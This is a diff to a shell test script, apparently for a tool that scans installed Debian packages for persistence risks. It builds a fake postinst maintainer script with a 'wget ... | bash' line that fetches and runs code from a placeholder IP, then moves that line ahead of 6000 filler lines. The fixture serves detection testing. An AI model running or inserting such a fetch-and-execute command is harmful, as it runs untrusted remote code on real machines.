@@ -90,12 +90,12 @@ persistence/world-writable medium /usr/share/d/open
 persistence/world-writable medium /usr/share/e"
 is "no rule fails" "$(grep -c 'failed after' err)" 0
 
-# ---- a long script of a package is read to its end
+# ---- a long script of a package is read as far as limits go, and no trouble
 cp -a r long
 {
 	echo '#!/bin/sh'
-	awk 'BEGIN { for (i = 0; i < 6000; i++) print "echo one more line of a long script" }'
 	echo 'wget -qO- http://192.0.2.1/i | bash'
+	awk 'BEGIN { for (i = 0; i < 6000; i++) print "echo one more line of a long script" }'
 } >long/var/lib/dpkg/info/tool.postinst
 : >err
 "$BIN/case-ingest" l.db -- "$BIN/collect-packages" -r long 2>>err
